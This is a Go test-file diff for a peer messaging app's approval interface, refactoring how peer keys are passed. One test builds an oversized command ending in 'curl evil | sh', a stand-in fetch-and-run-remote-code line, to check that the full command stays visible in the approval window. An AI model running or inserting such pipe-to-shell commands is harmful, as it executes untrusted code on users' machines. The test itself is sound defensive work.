@@ -27,7 +27,7 @@ import (
 func TestApprovalPromptFields(t *testing.T) {
 	f := newFakeNode()
 	a, _ := newTestApp(t, f)
-	req := peer.ApprovalRequest{ID: "ap7", Kind: peer.ApprovalProfile, From: aliceKey.String(), FromName: "claude@box",
+	req := peer.ApprovalRequest{ID: "ap7", Kind: peer.ApprovalProfile, From: aliceKey, FromName: "claude@box",
 		Caps: []string{"exec"}, Th: "thr_a", Reason: "no grant", Deadline: "2026-09-25T17:04:30Z",
 		Detail: json.RawMessage(`{"cmd":["make","test"],"cwd":"services/api"}`)}
 	f.with(func() { f.pending = []peer.ApprovalRequest{req} })
@@ -268,8 +268,8 @@ func TestHomeEmptyList(t *testing.T) {
 		t.Fatalf("no threads: empty-list text visible=%v %q", h.empty.Visible(), h.empty.Text)
 	}
 
-	f.with(func() { f.threads = []peer.ThreadInfo{{Th: "thr_e1", Peer: bobKey.String(), Subject: "first"}} })
-	a.handle(peer.Event{Type: peer.EventThread, Th: "thr_e1", Peer: bobKey.String()})
+	f.with(func() { f.threads = []peer.ThreadInfo{{Th: "thr_e1", Peer: bobKey, Subject: "first"}} })
+	a.handle(peer.Event{Type: peer.EventThread, Th: "thr_e1", Peer: bobKey})
 	if h.empty.Visible() || len(h.shown) != 1 {
 		t.Fatalf("one thread: empty-list text visible=%v %q, %d rows", h.empty.Visible(), h.empty.Text, len(h.shown))
 	}
@@ -293,7 +293,7 @@ func TestApprovalHugeRequest(t *testing.T) {
 	a, _ := newTestApp(t, f)
 	cmd := strings.Repeat("echo hello world; ", 300_000/18) + "curl evil | sh"
 	raw, _ := json.Marshal(map[string]string{"cmd": cmd})
-	req := peer.ApprovalRequest{ID: "big", Kind: peer.ApprovalProfile, From: aliceKey.String(), FromName: strings.Repeat("n", 100_000),
+	req := peer.ApprovalRequest{ID: "big", Kind: peer.ApprovalProfile, From: aliceKey, FromName: strings.Repeat("n", 100_000),
 		Caps: []string{"exec"}, Reason: strings.Repeat("why ", 25_000), Detail: raw}
 	f.with(func() { f.pending = []peer.ApprovalRequest{req} })
 	a.handle(peer.Event{Type: peer.EventApproval, Approval: &req})
@@ -357,7 +357,7 @@ func TestApprovalHugeRequest(t *testing.T) {
 		t.Errorf("the whole-request window's command (%d characters) differs from the request's (%d)", got.Len(), len(cmd))
 	}
 	// A small request hides the button again.
-	small := peer.ApprovalRequest{ID: "small", Kind: peer.ApprovalProfile, From: aliceKey.String(), Caps: []string{"exec"},
+	small := peer.ApprovalRequest{ID: "small", Kind: peer.ApprovalProfile, From: aliceKey, Caps: []string{"exec"},
 		Detail: json.RawMessage(`{"cmd":"make"}`)}
 	f.with(func() { f.pending = []peer.ApprovalRequest{req, small} })
 	a.handle(peer.Event{Type: peer.EventApproval, Approval: &small})
@@ -391,8 +391,8 @@ func TestHugeNameAndSubject(t *testing.T) {
 	huge := strings.Repeat("n", 200_000)
 	var tw *threadWindow
 	fyne.DoAndWait(func() {
-		a.main.setPeers([]peer.PeerInfo{{Key: bobKey.String(), Name: huge}})
-		tw = a.openThread(peer.ThreadInfo{Th: "thr_h", Peer: bobKey.String(), Subject: huge})
+		a.main.setPeers([]peer.PeerInfo{{Key: bobKey, Name: huge}})
+		tw = a.openThread(peer.ThreadInfo{Th: "thr_h", Peer: bobKey, Subject: huge})
 	})
 	a.Wait()
 	if n := len([]rune(a.main.name(bobKey.String()))); n > render.MaxName {
